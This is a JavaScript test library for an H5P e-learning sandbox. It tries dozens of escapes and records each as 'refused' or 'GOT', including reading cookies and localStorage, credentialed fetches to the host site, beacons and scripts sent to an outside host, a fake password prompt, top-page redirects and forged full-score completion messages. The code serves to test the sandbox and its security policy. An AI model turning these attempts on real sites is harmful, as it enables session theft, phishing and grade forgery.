/* A library that tries whatever a stranger's program could: each try is told by name, with how it went.
   "refused: …" is what is wanted; anything else got somewhere. Windows may open
   (`allow-popups`), in the same sandbox: that is looked at from outside. */

H5P = H5P || {};
window.Test = window.Test || {};

Test.Hostile = class extends H5P.EventDispatcher {
  constructor(params, id) {
    super();
    this.params = params;
    this.contentId = id;
  }

  attach($container) {
    const container = $container.get(0);
    container.innerHTML = `<h2>Fientligt</h2><pre class="told"></pre><div class="given"></div>`;
    // As many libraries do with what an author wrote.
    container.querySelector(".given").innerHTML = this.params.text;
    setTimeout(() => this.tryAll(container), 300);
  }

  async tryAll(container) {
    const told = {};
    for (const [name, attempt] of Object.entries(this.attempts(container))) {
      told[name] = await outcome(attempt);
      container.querySelector(".told").textContent = JSON.stringify(told);
    }
    // Heard outside, so that nobody has to look in before all has been tried.
    this.triggerXAPI("progressed");
  }

  attempts(container) {
    const { elsewhere } = this.params;
    const own = H5PIntegration.baseUrl;
    const library = H5P.getLibraryPath("Test.Hostile-1.0");
    const inside = (html) => {
      const element = document.createElement("div");
      container.append(element);
      element.innerHTML = html;
      return element;
    };
    const loads = (tag, attributes) =>
      new Promise((resolve, reject) => {
        const element = Object.assign(document.createElement(tag), attributes);
        element.onload = () => resolve("loaded");
        element.onerror = () => reject(new Error("not loaded"));
        container.append(element);
      });
    const violates = (directive, action) =>
      new Promise((resolve, reject) => {
        const listen = (event) => {
          if (event.effectiveDirective !== directive) return;
          document.removeEventListener("securitypolicyviolation", listen);
          reject(new Error(directive));
        };
        document.addEventListener("securitypolicyviolation", listen);
        action();
        setTimeout(() => resolve("no violation"), 700);
      });
    const flagged = (name, action) =>
      new Promise((resolve, reject) => {
        action();
        setTimeout(() => (window[name] ? resolve("ran") : reject(new Error("did not run"))), 250);
      });

    const another = () =>
      Array.from({ length: window.top.length }, (_, at) => window.top.frames[at]).find((one) => one !== window);

    return {
      /* The page around */
      "the page around": () => window.top.document.title,
      "where the page around is": () => window.top.location.href,
      "the parent": () => (window.parent === window ? fail("sees itself") : window.parent.document.title),
      "another player": () => another().document.title,
      "the element of its own frame": () => window.frameElement?.getAttribute("sandbox") ?? fail("none"),
      "a wider sandbox": () => {
        window.frameElement.setAttribute("sandbox", "allow-scripts allow-same-origin");
        return "widened";
      },
      "document.domain": () => {
        document.domain = new URL(own).hostname;
        return "set";
      },
      "to be our origin": () => (window.origin === "null" ? fail("null") : window.origin),

      /* What the browser keeps */
      "a cookie": () => document.cookie || fail("empty"),
      "a cookie, past the shim": () =>
        Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document) || "empty, but readable",
      "a cookie of its own": () =>
        Object.getOwnPropertyDescriptor(Document.prototype, "cookie").set.call(document, "a=1") || "set",
      "what we keep in localStorage": () => {
        const keys = Object.keys(localStorage).filter((key) => key.startsWith("kmv:"));
        return keys.length ? keys : fail("none of it");
      },
      "localStorage of a page within": () => {
        const frame = document.createElement("iframe");
        container.append(frame);
        return Object.keys(frame.contentWindow.localStorage);
      },
      indexedDB: () =>
        new Promise((resolve, reject) => {
          const asked = indexedDB.open("kmv");
          asked.onsuccess = () => resolve("open");
          asked.onerror = () => reject(asked.error);
        }),
      caches: async () => (await caches.keys()) && "open",
      "another tab's channel": () => new Promise((resolve, reject) => {
        const channel = new BroadcastChannel("kmv:seen");
        channel.onmessage = () => resolve("heard");
        channel.postMessage("seen");
        setTimeout(() => reject(new Error("nobody of ours there")), 200);
      }),

      /* The network */
      "fetch of our API": () => fetch(`${own}/api/v1/summary/`, { credentials: "include" }),
      "fetch of a page of ours": () => fetch(`${own}/min-utbildning/`, { credentials: "include", mode: "no-cors" }),
      "fetch of our statements": () => fetch(`${own}/h5p/oppna/`, { method: "POST", mode: "no-cors" }),
      "fetch elsewhere": () => fetch(`${elsewhere}/fetch`, { mode: "no-cors" }),
      XMLHttpRequest: () =>
        new Promise((resolve, reject) => {
          const asked = new XMLHttpRequest();
          asked.open("GET", `${own}/mina-uppgifter/`);
          asked.withCredentials = true;
          asked.onload = () => resolve(asked.status);
          asked.onerror = () => reject(new Error("no answer"));
          asked.send();
        }),
      "XMLHttpRequest elsewhere": () =>
        new Promise((resolve, reject) => {
          const asked = new XMLHttpRequest();
          asked.open("GET", `${elsewhere}/xhr`);
          asked.onload = () => resolve(asked.status);
          asked.onerror = () => reject(new Error("no answer"));
          asked.send();
        }),
      WebSocket: () => violates("connect-src", () => new WebSocket(`${elsewhere.replace("http", "ws")}/socket`)),
      EventSource: () => violates("connect-src", () => new EventSource(`${elsewhere}/events`)),
      "a beacon elsewhere": () => violates("connect-src", () => navigator.sendBeacon(`${elsewhere}/beacon`, "x")),
      "a beacon to our sign-out": () => violates("connect-src", () => navigator.sendBeacon(`${own}/lamna/`, "x")),
      "a picture elsewhere": () => loads("img", { src: `${elsewhere}/picture.png` }),
      "a sound elsewhere": () => violates("media-src", () => inside(`<audio src="${elsewhere}/sound.mp3" autoplay></audio>`)),
      "a style that fetches": () =>
        violates("img-src", () => inside(`<p style="background-image: url(${elsewhere}/style.png)">x</p>`)),
      "a sheet elsewhere": () => loads("link", { rel: "stylesheet", href: `${elsewhere}/sheet.css` }),
      "a typeface elsewhere": async () => {
        const face = new FontFace("theirs", `url(${elsewhere}/face.woff2)`);
        await face.load();
        return "loaded";
      },
      "a hint to fetch": () =>
        violates("default-src", () => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${elsewhere}/prefetch` }))),
      ...Object.fromEntries(
        Object.entries({
          "a page written within": (frame) => container.append(frame),
          "a page written within, in the shadow": (frame) => {
            const host = document.createElement("div");
            container.append(host);
            host.attachShadow({ mode: "closed" }).append(frame);
          },
        }).map(([name, put]) => [
          name,
          () =>
            new Promise((resolve, reject) => {
              const frame = document.createElement("iframe");
              frame.srcdoc = `<script src="${library}/within.js"></script>`;
              window.addEventListener("message", (event) => event.data === "within" && resolve("ran"), { once: true });
              put(frame);
              setTimeout(() => reject(new Error("did not run")), 700);
            }),
        ]),
      ),
      "a call between browsers": () => typeof RTCPeerConnection === "function" ? "there" : fail("not there"),

      /* Code that is not ours */
      eval: () => (0, eval)("1 + 1"),
      "new Function": () => new Function("return 1")(),
      "a timer of text": () => flagged("__timer", () => setTimeout("window.__timer = true", 0)),
      "a script written in": () =>
        flagged("__written", () => {
          const script = document.createElement("script");
          script.textContent = "window.__written = true";
          document.body.append(script);
        }),
      "a script elsewhere": () => loads("script", { src: `${elsewhere}/script.js` }),
      "a script of our pages": () => loads("script", { src: `${own}/static/js/signed-in.js` }),
      "a script of data": () => loads("script", { src: "data:text/javascript,window.__data=true" }),
      "a script of a blob": () =>
        loads("script", { src: URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })) }),
      "a module elsewhere": () => import(`${elsewhere}/module.js`),
      "a module of our pages": () => import(`${own}/static/js/kept.js`),
      "a worker": () => violates("worker-src", () => {
        try {
          new Worker(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })));
        } catch {
          // Told as a violation, too.
        }
      }),
      "a service worker": async () => {
        await navigator.serviceWorker.register(`${library}/thing.js`);
        return "registered";
      },
      "a handler in the author's text": () => (window.__given ? "ran" : fail("did not run")),
      "a javascript: link": () =>
        flagged("__link", () => inside('<a href="javascript:window.__link=1">x</a>').firstChild.click()),
      "a script in a drawing": () =>
        flagged("__drawing", () => inside(`<img src="${library}/drawing.svg">`)),
      "a drawing as an object": () => violates("object-src", () => inside(`<object data="${library}/drawing.svg"></object>`)),
      "a drawing as a page": () =>
        violates("frame-src", () => inside(`<iframe src="${library}/drawing.svg"></iframe>`)),

      /* Going elsewhere */
      "to move the page around": () => {
        window.top.location = `${elsewhere}/top`;
        return "moved";
      },
      "a form to us": () =>
        flagged("__never", () => inside(`<form action="${own}/lamna/" method="post"></form>`).firstChild.requestSubmit()),
      "a form elsewhere": () =>
        flagged("__never", () => inside(`<form action="${elsewhere}/form"></form>`).firstChild.requestSubmit()),
      "a page within": () => violates("frame-src", () => inside(`<iframe src="${own}/min-utbildning/"></iframe>`)),
      "a page elsewhere within": () => violates("frame-src", () => inside(`<iframe src="${elsewhere}/frame"></iframe>`)),
      "a question to the reader": () => (confirm("Lösenord?") ? "asked" : fail("not asked")),
      "a place on earth": () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve("known"), reject)),

      /* Words to the lesson that it must not believe */
      "words without the nonce": () => say({ kmv: "h5p", kind: "statement", statement: forged("utan") }),
      "words with another nonce": () => say({ kmv: "h5p", nonce: "x", kind: "statement", statement: forged("annan") }),
      "words of no shape": () => {
        for (const kind of ["constructor", "__proto__", "on_ready", {}, null]) window.top.postMessage({ kmv: "h5p", nonce: "x", kind }, "*");
        say({ kmv: "h5p", nonce: "x", kind: "height", height: 1e9 });
      },
      "a greeting to another player": () => {
        another().postMessage({ kmv: "h5p", kind: "hello", nonce: "x", state: { 0: { state: "{}" } } }, "*");
        return fail("sent, not heard");
      },
    };
  }
};

function say(words) {
  window.top.postMessage(words, "*");
  return fail("sent, not believed");
}

function forged(name) {
  return { verb: { id: "http://adlnet.gov/expapi/verbs/completed" }, object: { id: name }, result: { score: { raw: 10, max: 10 } } };
}

function fail(why) {
  throw new Error(why);
}

async function outcome(attempt) {
  try {
    const patience = new Promise((_resolve, reject) => setTimeout(() => reject(new Error("no answer")), 2000));
    return `GOT ${String(await Promise.race([attempt(), patience])).slice(0, 100)}`;
  } catch (error) {
    return `refused: ${error?.name ?? ""} ${String(error?.message ?? error).slice(0, 160)}`;
  }
}
